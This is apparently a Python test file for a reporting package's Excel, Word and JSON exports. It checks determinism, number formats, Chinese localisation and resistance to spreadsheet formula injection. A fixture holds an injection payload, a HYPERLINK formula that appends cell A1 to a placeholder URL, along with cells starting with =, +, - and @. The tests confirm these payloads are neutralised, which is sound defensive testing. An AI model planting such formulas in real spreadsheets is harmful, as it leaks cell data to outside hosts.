"""The workbook, the Word summary and the JSON document: sound, steady, and harmless whatever was typed into a note."""

from __future__ import annotations

import io
import json
import re
import zipfile
from dataclasses import replace

import docx
import openpyxl
import pytest

from assess.method.assessment import Finding
from assess.method.text import Text
from assess.reporting import exports, packing, sheets
from assess.results.evaluate import Evaluated
from tests.reporting.report_samples import changed, made, rendered

FORMULA = '=HYPERLINK("http://example.test/?"&A1,"click")'


def workbook(content: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(content))


@pytest.fixture(scope="module")
def wicked(harbour: Evaluated) -> Evaluated:
    """A bank whose name and findings would be formulas, markup and control characters elsewhere."""
    organisation = replace(harbour.case.assessment.organisation, name=Text.of(FORMULA))
    findings = tuple(Finding(f"F{n}", "L1.1", "minor", Text.of(f"{sign}1+1\x07")) for n, sign in enumerate("=+-@", start=1))
    return changed(harbour, organisation=organisation, findings=findings)


def test_no_cell_of_the_workbook_is_a_formula(wicked: Evaluated):
    book = workbook(exports.workbook(made(wicked, None, design_id="certification", language="en")))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert not [cell for cell in cells if cell.data_type == "f"]
    written = [cell for cell in cells if cell.value == FORMULA]
    assert written
    assert all(cell.quotePrefix for cell in written)
    assert {"=1+1\\u0007", "+1+1\\u0007", "-1+1\\u0007", "@1+1\\u0007"} <= {cell.value for cell in cells}


def test_no_formula_stands_in_the_raw_file(wicked: Evaluated):
    content = exports.workbook(made(wicked, None, design_id="certification", language="en"))
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert not [name for name in archive.namelist() if b"<f>" in archive.read(name) or "vba" in name.lower()]


def test_numbers_are_numbers_and_shown_as_in_the_report():
    book = workbook(rendered("harbour-bank", design_id="certification", language="en", ending=".xlsx", peers=True))
    row = next(row for row in book["Elements"].iter_rows(min_row=2) if row[0].value == "L")
    weight, score = row[2], row[3]
    assert isinstance(score.value, float)
    assert (score.number_format, weight.number_format) == ("0.0", "0.0%")


def test_every_sheet_has_a_heading_that_stays_and_repeats():
    book = workbook(rendered("harbour-bank", design_id="certification", language="en", ending=".xlsx", peers=True))
    assert len(book.sheetnames) == 14
    for sheet in book:
        assert sheet.freeze_panes == "A2"
        assert sheet.print_title_rows == "$1:$1"
        assert sheet.max_row > 1, sheet.title


@pytest.mark.parametrize(
    ("text", "form"),
    [("62.4", "0.0"), ("+0.83", "+0.00;-0.00;0.00"), ("12.5%", "0.0%"), ("1,234", "#,##0"), (">99%", "0%"), ("−3.0", "0.0")],
)
def test_a_number_has_the_format_it_is_written_in(text: str, form: str):
    assert sheets.number_format(text) == form


@pytest.mark.parametrize("ending", [".xlsx", ".docx", ".json", ".html"])
def test_the_same_report_has_the_same_bytes(harbour: Evaluated, ending: str):
    made_ = made(harbour, None, design_id="certification", language="zh_Hans")
    assert exports.EXPORTS[ending](made_) == exports.EXPORTS[ending](made_)


def test_a_packed_archive_has_one_date_and_the_same_content():
    before = io.BytesIO()
    with zipfile.ZipFile(before, "w") as archive:
        archive.writestr("a.txt", "a")
        archive.writestr("b/c.txt", "c")
    with zipfile.ZipFile(io.BytesIO(packing.steady(before.getvalue()))) as after:
        assert {entry.date_time for entry in after.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        assert {name: after.read(name) for name in after.namelist()} == {"a.txt": b"a", "b/c.txt": b"c"}


@pytest.mark.parametrize("ending", [".xlsx", ".docx"])
def test_the_time_of_writing_stands_nowhere_in_an_office_file(ending: str):
    content = rendered("harbour-bank", design_id="certification", language="zh_Hant", ending=ending, peers=True)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        properties = archive.read("docProps/core.xml").decode()
    assert set(re.findall(r">(\d{4}-\d{2}-\d{2})T", properties)) == {"2026-06-30"}


def test_the_word_summary_has_headings_its_language_and_a_chinese_font():
    paper = docx.Document(io.BytesIO(rendered("harbour-bank", design_id="certification", language="zh_Hant", ending=".docx", peers=True)))
    headings = [paragraph.text for paragraph in paper.paragraphs if paragraph.style.name.startswith("Heading")]
    assert "門檻條件" in headings
    assert headings.index("門檻條件") < headings.index("等級與得分")
    assert paper.core_properties.language == "zh-Hant"
    fonts = paper.styles["Normal"].element.rPr.rFonts
    assert {fonts.get(name) for name in fonts.attrib} == {"Noto Sans CJK TC"}


def test_a_self_assessment_is_marked_in_the_word_summary():
    paper = docx.Document(io.BytesIO(rendered("riverside-clinic", design_id="self-assessment", language="en", ending=".docx", peers=False)))
    assert "SELF-ASSESSMENT 自评价" in paper.sections[0].header.paragraphs[0].text
    assert any(paragraph.text == "SELF-ASSESSMENT 自评价" for paragraph in paper.paragraphs)


def test_the_json_holds_the_result_as_it_is_and_the_report_in_words(harbour: Evaluated):
    document = json.loads(exports.data(made(harbour, None, design_id="certification", language="zh_Hans")))
    assert document["result"]["overall"]["score"] == harbour.result.overall.score
    assert document["report"]["overall"]["score"]["text"] == "65.5"
    assert document["report"]["statement"]["heading"] == "评价声明"
    assert document["position"] is None
